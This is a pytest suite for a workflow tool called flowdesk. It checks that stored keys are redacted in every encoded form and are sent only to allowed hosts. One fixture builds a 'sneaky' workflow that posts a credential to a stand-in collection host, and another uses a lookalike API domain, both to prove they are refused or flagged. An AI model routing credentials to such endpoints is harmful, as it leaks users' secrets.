"""A key never lands in an error, a log or the library, and goes only to the hosts it is for (issue 22.1, 22.2).

The echo server sends the Authorization header back (as it came, base64- and URL-encoded) in a 401
body and in a successful reply; runs go through `flowdesk` subprocesses with a stored credential.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from support.echo_server import echo_server

from flowdesk.engine.redaction import Redactor, StreamRedactor

HERE = Path(__file__).parent
KEY = "gw-LEAK/CANARY+7f3e9a1c"


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "support.file_keyring.FileKeyring")
    monkeypatch.setenv("FLOWDESK_TEST_KEYRING", str(tmp_path / "keyring.json"))
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(HERE.parent), os.environ.get("PYTHONPATH", "")]))
    return dict(os.environ)


def flowdesk(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        [sys.executable, "-m", "flowdesk", *args], capture_output=True, text=True, input=stdin, timeout=120
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def http_workflow(tmp_path: Path, url: str, name: str = "wf") -> Path:
    data = {
        "format": "flowdesk.workflow",
        "format_version": 1,
        "id": name,
        "name": name,
        "nodes": [
            {"id": "call", "kind": "http", "config": {"url": url, "credential": "svc"}},
            {"id": "out", "kind": "output", "config": {"name": "body"}},
        ],
        "edges": [{"id": "e1", "source": "call", "source_port": "body", "target": "out", "target_port": "value"}],
    }
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(data))
    return path


def encoded(key: str) -> list[bytes]:
    forms = [key, quote(key, safe=""), base64.b64encode(f"Bearer {key}".encode()).decode()]
    forms.append(base64.b64encode(f"user:{key}".encode()).decode())
    return [form.encode() for form in forms]


def test_an_echoing_server_never_gets_the_key_into_stderr_errors_logs_or_the_library(
    tmp_path: Path, cli_env: dict[str, str], private_library: Path
) -> None:
    with echo_server() as (base, hits):
        add = flowdesk("credentials", "add", "svc", "--provider", "http", "--host", "127.0.0.1", stdin=KEY + "\n")
        assert add.returncode == 0, add.stderr
        good = flowdesk("-v", "run", str(http_workflow(tmp_path, base + "/echo", "good")), "--json")
        bad = flowdesk("-v", "run", str(http_workflow(tmp_path, base + "/private", "bad")))
        assert hits == ["/echo", "/private"]
    assert good.returncode == 0, good.stderr
    body = json.loads(good.stdout)["outputs"]["body"]
    assert body["auth"] == "Bearer [key removed]" and body["url"] == "[key removed]"
    assert bad.returncode == 1 and "HTTP 401: invalid key: Bearer [key removed]" in bad.stderr
    shown = [flowdesk("show", json.loads(good.stdout)["run_id"], "--json"), flowdesk("runs", "--json")]
    failed_id = next(line.split()[1] for line in bad.stderr.splitlines() if line.startswith("run "))
    shown.append(flowdesk("show", failed_id, "--json"))
    record = json.loads(shown[-1].stdout)
    assert "[key removed]" in json.dumps(record)  # the run's error and the step's error are there, redacted
    library = b"".join(p.read_bytes() for p in private_library.parent.iterdir() if p.is_file())
    assert b"[key removed]" in library
    for form in encoded(KEY):
        for proc in [good, bad, *shown]:
            assert form.decode() not in proc.stdout + proc.stderr
        assert form not in library, form


def test_a_credential_goes_only_to_its_hosts(tmp_path: Path, cli_env: dict[str, str]) -> None:
    with echo_server() as (base, hits):
        add = flowdesk("credentials", "add", "svc", "--provider", "http", "--host", "example.org", stdin=KEY + "\n")
        assert add.returncode == 0, add.stderr
        refused = flowdesk("run", str(http_workflow(tmp_path, base + "/echo")))
        assert hits == []  # refused before the request
        assert refused.returncode == 1
        assert "credential 'svc' may not be sent to '127.0.0.1:" in refused.stderr
        assert "(it may go to: example.org)" in refused.stderr
        port = base.rsplit(":", 1)[1]
        added = flowdesk("credentials", "hosts", "svc", "--add", f"127.0.0.1:{port}")
        assert added.returncode == 0 and f"127.0.0.1:{port}" in added.stdout.split()
        allowed = flowdesk("run", str(http_workflow(tmp_path, base + "/echo")))
        assert allowed.returncode == 0, allowed.stderr and hits == ["/echo"]


def test_an_http_credential_needs_a_host_and_a_bad_host_is_named(cli_env: dict[str, str]) -> None:
    proc = flowdesk("credentials", "add", "svc", "--provider", "http", stdin=KEY + "\n")
    assert proc.returncode == 2 and "say where its key may go with --host HOST" in proc.stderr
    proc = flowdesk("credentials", "add", "svc", "--provider", "http", "--host", "https://x.org/", stdin=KEY + "\n")
    assert proc.returncode == 2 and "'https://x.org/' is not a host name" in proc.stderr


def test_redaction_is_by_token_for_a_short_key_and_by_substring_for_a_long_one() -> None:
    short = Redactor()
    short.add("e")
    assert short.text("openai says e, not E") == "openai says [key removed], not E"
    long = Redactor()
    long.add(KEY)
    assert long.text(f"x{KEY}y") == "x[key removed]y"
    assert long.text(long.text(f"k={KEY}")) == "k=[key removed]"  # redacting twice changes nothing


@pytest.mark.parametrize("user", ["", "u", "us", "user", "a-longer-user"])
def test_a_key_in_basic_auth_is_found_whatever_the_user(user: str) -> None:
    redactor = Redactor()
    redactor.add(KEY)
    basic = base64.b64encode(f"{user}:{KEY}".encode()).decode()
    assert redactor.text(f"Authorization: Basic {basic}.") == "Authorization: Basic [key removed]."


def test_a_key_split_across_streamed_pieces_is_still_removed() -> None:
    redactor = Redactor()
    redactor.add(KEY)
    stream = StreamRedactor(redactor)
    pieces = ["the key is ", KEY[:5], KEY[5:12], KEY[12:] + " ok"]
    shown = "".join(stream.feed(piece) for piece in pieces) + stream.flush()
    assert shown == "the key is [key removed] ok"


def test_importing_a_workflow_says_which_credentials_it_uses_and_where_they_go(
    tmp_path: Path, cli_env: dict[str, str]
) -> None:
    add = flowdesk("credentials", "add", "svc", "--provider", "http", "--host", "api.example.org", stdin=KEY + "\n")
    assert add.returncode == 0, add.stderr
    path = http_workflow(tmp_path, "https://evil.example.com/collect", "sneaky")
    data = json.loads(path.read_text())
    data["nodes"].append({"id": "ask", "kind": "llm", "config": {"model": "openai:gpt-4o-mini"}})
    path.write_text(json.dumps(data))
    proc = flowdesk("import", str(path))
    assert proc.returncode == 0, proc.stderr
    assert (
        "node 'call' uses credential 'svc' for https://evil.example.com/collect; its key may go to: api.example.org"
        in proc.stdout
    )
    assert "node 'ask' uses credential 'openai' for its openai calls; its key may go to https://api.openai.com/v1" in (
        proc.stdout
    )


def test_a_key_only_in_the_environment_goes_only_to_its_providers_public_api() -> None:
    from flowdesk.nodes.context import NodeFailure
    from flowdesk.providers.credentials import Credentials, KeyStore
    from flowdesk.providers.settings import LLMSettings

    loose = Credentials(LLMSettings(), KeyStore(), {"FLOWDESK_CREDENTIAL_SVC": KEY})
    with pytest.raises(NodeFailure) as info:
        loose.get("svc", "https://x.example.org/a")
    assert "credential 'svc' may not be sent to 'x.example.org' (it may go to: no host yet)" in str(info.value)
    assert "`flowdesk credentials add svc --provider http --host x.example.org`" in str(info.value)
    public = Credentials(LLMSettings(), KeyStore(), {"FLOWDESK_CREDENTIAL_OPENAI": KEY})
    assert public.get("openai", "https://api.openai.com/v1/files") == KEY
    with pytest.raises(NodeFailure):
        public.get("openai", "https://api.openai.com.evil.example/v1")
